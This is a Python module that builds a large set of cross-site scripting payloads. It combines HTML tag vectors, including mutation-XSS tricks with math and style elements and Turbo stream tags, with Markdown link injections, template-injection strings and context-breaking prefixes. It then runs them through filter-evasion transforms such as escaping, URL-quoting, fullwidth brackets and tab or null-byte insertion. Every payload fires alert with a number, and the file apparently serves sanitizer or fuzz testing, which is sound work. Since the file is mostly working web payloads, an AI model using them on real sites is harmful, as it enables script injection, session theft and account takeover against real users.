"""Texts that would run a script where a page takes them for more than text."""

from collections.abc import Callable
from html import escape
from itertools import product
from urllib.parse import quote

HERE = "7777"  # where the call goes: signs that no dress changes
TAGS = [
    "<script>7777</script>", "<script src=data:text/javascript,7777></script>", "<img src=x onerror=7777>",
    "<svg onload=7777>", "<svg/onload=7777//", "<body onload=7777>", "<iframe src=javascript:7777>",
    "<iframe srcdoc='<script>7777</script>'>", "<details open ontoggle=7777>", "<video src=x onerror=7777>",
    "<input autofocus onfocus=7777>", "<a href=javascript:7777>x</a>", "<object data=javascript:7777>",
    "<embed src=javascript:7777>", "<form action=javascript:7777><input type=submit>",
    "<a href='data:text/html,7777'>x",
    "<button formaction=javascript:7777>x", "<meta http-equiv=refresh content='0;url=javascript:7777'>",
    "<base href=javascript:/>", "<style>@import'data:text/css,*{x:7777}'</style>", "<p style=color:red onclick=7777>",
    "<math><mi xlink:href=javascript:7777>x", "<noscript><p title='</noscript><img src=x onerror=7777>'>",
    "<turbo-stream action=append targets=body><template><img src=x onerror=7777></template></turbo-stream>",
    "<turbo-frame src=data:text/html,7777></turbo-frame>",
    "<svg></p><style><a id='</style><img src=x onerror=7777>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=7777&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=7777>", "<img src=x onerror=7777"]
MARKS = [
    "[x](javascript:7777)", "[x](<javascript:7777>)", "![x](javascript:7777)", "![x](x\" onerror=\"7777)",
    "[x](data:text/html,7777)", "[a]: javascript:7777\n\n[a]", "<javascript:7777>", "http://a.no/\"onmouseover=7777//",
    "[x](http://a.no/\" onmouseover=\"7777)", "[x](http://a.no 'x\" onmouseover=\"7777')", "`<img src=x onerror=7777>`",
    "```\n<script>7777</script>\n```", "@[<img src=x onerror=7777>](person:1)", "[[card:1\"><img src=x onerror=7777>]]",
    "| a |\n|---|\n| <img src=x onerror=7777> |", "<!-- --><img src=x onerror=7777>", "vbscript:7777"]
CODE = ["{{constructor.constructor('7777')()}}", "${{c}}", "\\u003cscript\\u003e7777\\u003c/script\\u003e", "\";7777//",
        "';7777//", "</script><script>7777</script>", "javascript:7777", "{{ 7777 }}"]
BEFORE = ["", "\">", "'>", "`>", "-->", "</title>", "</textarea>", "</template>", "</script>", "]]>", "\" autofocus ",
          "\\\">"]
DRESSED: list[Callable[[str], str]] = [
    str, str.swapcase, escape, lambda text: escape(escape(text)), quote,
    lambda text: text.replace("javascript:", "java\tscript:").replace("<s", "<\x00s"),
    lambda text: text.replace("<", "＜").replace(">", "＞"), lambda text: text.replace(" ", "/").replace("=", "\n=")]


def payloads(count: int | None = None) -> list[str]:
    """All of them, each once, or COUNT of them from everywhere. Each would call alert with its number."""
    made = dict.fromkeys(dress(before + vector) for vector, before, dress in product(
        TAGS + MARKS + CODE, BEFORE, DRESSED))
    every = list(made)
    chosen = every if count is None else every[::max(1, len(every) // count)][:count]
    return [one.replace(HERE, f"alert({number})") for number, one in enumerate(chosen)]
